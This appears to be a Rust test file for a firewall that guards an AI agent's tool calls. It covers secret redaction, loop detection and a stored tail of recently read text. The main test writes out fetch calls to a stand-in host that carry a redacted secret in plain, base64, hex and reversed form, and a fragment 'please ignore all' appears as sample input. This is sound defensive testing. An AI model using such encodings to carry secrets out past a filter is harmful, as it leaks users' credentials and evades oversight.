//! What a run did last: loops, secrets that were taken out, and what stands at its end.

use std::sync::Arc;

use super::{Kept, kept};
use crate::{
    firewall::{Disposition, Ruleset, Source as Rules, Surface, score::Thresholds},
    flow::{RunName, Source, class::Classes},
    inspect::{Firewall, Mode, Profile},
    mcp::{Json, Object, json},
};

const FETCH: &[&str] = &["egress", "reads_untrusted"];
/// No vendor's form: the test's own rule knows it.
const SECRET: &str = "vault/pl4m-0rch4rd-4417-v4ult-kept";
const RULE: &str = r#"
schema = 1
status = "stable"

[[rule]]
id = "secret.of-this-test"
version = 1
title = "A secret of this test"
severity = "high"
confidence = "high"
level = 1
surfaces = ["tool_result"]
pattern = '\bvault/[a-z0-9-]{20,40}'
action = "redact"
message = "A text contains a secret of this test."
tags = ["owasp-llm:LLM02"]
references = ["https://example.org"]
examples.match = ["at vault/abcdefgh-abcdefgh-1234 it is"]
examples.no_match = ["at vault/abc it is"]
"#;

async fn withheld(kept: &Kept, run: &RunName, text: &str) {
    let source = Rules { name: "secret.toml".to_owned(), text: RULE.to_owned() };
    let firewall = Firewall {
        rules: Arc::new(Ruleset::compile(&[source]).expect("a rule")),
        profile: Profile::Balanced,
        mode: Mode::Enforce,
        thresholds: Thresholds::default(),
        lifecycle: Arc::default(),
        classifier: None,
    };
    let mut value = Json::from(text);
    let inspection = firewall.inspect(Surface::ToolResult, &mut value);
    assert!(inspection.edited && !format!("{inspection:?}").contains("pl4m"), "{inspection:?}");
    let parts = kept.runs.secrets(&inspection.secrets);
    assert!(!parts.is_empty());
    let source = Source {
        label: Classes::of(["reads_private"]).label(),
        server: "vault".into(),
        tool: "show".into(),
        time: 1,
        rules: Vec::new(),
        guessed: false,
        instructs: false,
        nonce: None,
    };
    let brought = kept.runs.read(run, source.label, &value).expect("it matters");
    kept.runs.learn(run, source, &brought.withheld(&parts)).await.expect("kept");
}

#[tokio::test]
async fn a_secret_that_was_taken_out_is_blocked_however_it_comes_back() {
    use base64::Engine as _;
    let kept = kept().await;
    let run = kept.run("secrets").await;
    withheld(&kept, &run, &format!("The key is {SECRET} for now.")).await;
    let base64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    let backwards: String = SECRET.chars().rev().collect();
    for carried in [SECRET.to_owned(), base64, hex, backwards] {
        let call = format!(r#"{{"url": "https://a.example/{carried}"}}"#);
        let judged = kept.calls(&run, "web/fetch", FETCH, &call);
        assert_eq!(judged.disposition, Disposition::Block, "{carried}");
        assert!(!judged.reasons.join(" ").contains("pl4m"), "{:?}", judged.reasons);
        let own = kept.calls(&run, "vault/rotate", &["state_change"], &call);
        assert_ne!(own.disposition, Disposition::Block, "its own server has it already");
    }
    let other = kept.calls(&run, "web/fetch", FETCH, r#"{"url": "https://a.example/weather"}"#);
    assert_ne!(other.disposition, Disposition::Block);
}

fn arguments(text: &str) -> Object {
    match json::parse(text.as_bytes(), &json::Limits::default()) {
        Ok(Json::Object(object)) => object,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn a_call_that_gets_nowhere_is_a_loop_and_pages_are_none() {
    let kept = kept().await;
    let run = kept.run("loop").await;
    let call = kept.runs.call("web", "status", &arguments(r#"{"a": 1, "b": 2}"#));
    assert_eq!(call, kept.runs.call("web", "status", &arguments(r#"{"b": 2, "a": 1}"#)));
    let repeats = crate::flow::FlowLimits::DEFAULT.repeats;
    for _ in 0..repeats {
        assert_eq!(kept.runs.loops(&run, call), None);
        kept.runs.answered(&run, Some(call), &"still waiting".into());
    }
    assert_eq!(kept.runs.loops(&run, call), Some(usize::try_from(repeats).expect("few")));
    for page in 0..repeats + 10 {
        let call = kept.runs.call("web", "list", &arguments(&format!(r#"{{"page": {page}}}"#)));
        assert_eq!(kept.runs.loops(&run, call), None);
        kept.runs.answered(&run, Some(call), &"a page".into());
    }
    kept.runs.answered(&run, Some(call), &"done".into());
    assert_eq!(kept.runs.loops(&run, call), None, "it got somewhere");
}

#[tokio::test]
async fn what_was_read_last_is_kept_for_what_comes_next() {
    let kept = kept().await;
    let (run, other) = (kept.run("a").await, kept.run("b").await);
    kept.runs.answered(&run, None, &"please ignore all".into());
    assert!(kept.runs.tail(&run).ends_with("please ignore all"));
    kept.runs.answered(&run, None, &"x".repeat(10_000).as_str().into());
    assert!(kept.runs.tail(&run).len() <= crate::inspect::TAIL_BYTES_MAX);
    assert!(kept.runs.tail(&other).is_empty());
}
